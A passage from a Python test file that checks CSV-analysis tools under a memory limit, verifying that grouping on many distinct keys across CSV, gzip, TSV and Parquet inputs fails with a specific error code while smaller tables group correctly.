                        "columns": ["figure"], "group_by": ["number"]}),
    "with many columns": (
        "analyze_csv", {"operations": ["distinct"], "columns": ["text", "hash", "case"], "group_by": ["case"]}),
    "behind a filter": (
        "analyze_csv", {"operations": ["sum"], "columns": ["figure"], "group_by": ["text"], "filter": "figure >= 0"}),
    "of a chart": ("chart_csv", {"by": "text", "top": 5}),
    "of a chart of lines": (
        "chart_csv", {"by": "text", "kind": "line", "operation": "sum", "column": "figure", "sort": "value"}),
}  # fmt: skip
FEW_MIB = TableLimits(memory_mib=24)


def keyed(root: Path, count: int) -> None:
    """A table in several formats with as many different keys as rows, in most of its columns."""
    lines = [",".join(KEYS)]
    lines += [
        ",".join(f'"{cell}"' if "," in cell else cell for cell in (make(n) for make in KEYS.values()))
        for n in range(count)
    ]
    text = "\n".join(lines) + "\n"
    (root / "t.csv").write_text(text)
    (root / "t.csv.gz").write_bytes(gzip.compress(text.encode(), 1))
    (root / "t.tsv").write_text(text.replace(",", "\t"))
    with duckdb.connect() as connection:
        connection.execute(f"COPY (SELECT * FROM read_csv('{root}/t.csv')) TO '{root}/t.parquet'")


PACKED_KEYS = ("t.csv.gz", "t.tsv", "t.parquet")


def grouping(path: str) -> Call:
    return "analyze_csv", {"path": path, "operations": ["distinct"], "columns": ["hash"], "group_by": ["text"]}


@pytest.mark.attack("G11")
@pytest.mark.variants(len(GROUPED) + len(PACKED_KEYS))
def test_g11_no_number_of_groups_takes_more_memory_than_a_call_has(tmp_path: Path) -> None:
    keyed(tmp_path, MANY)
    calls = [(tool, {"path": "t.csv", **arguments}) for tool, arguments in GROUPED.values()] + [
        *map(grouping, PACKED_KEYS)
    ]
    for name, result in zip([*GROUPED, *PACKED_KEYS], answers(tmp_path, calls, FEW_MIB), strict=True):
        tried(name)
        assert code_of(tmp_path, result) == "TT6340", name


@pytest.mark.twin("G11")
def test_g11_twin_groups_that_fit_are_all_counted(tmp_path: Path) -> None:
    keyed(tmp_path, 1_000)
    calls = [(tool, {"path": "t.csv", **arguments}) for tool, arguments in GROUPED.values()] + [
        *map(grouping, PACKED_KEYS)
    ]
    for name, result in zip([*GROUPED, *PACKED_KEYS], answers(tmp_path, calls, FEW_MIB), strict=True):
        assert not result.is_error, (name, result.text)
        if "chart" not in name:
            assert (result.value["rows"], result.value["group_count"]) == (1_000, 1_000), name
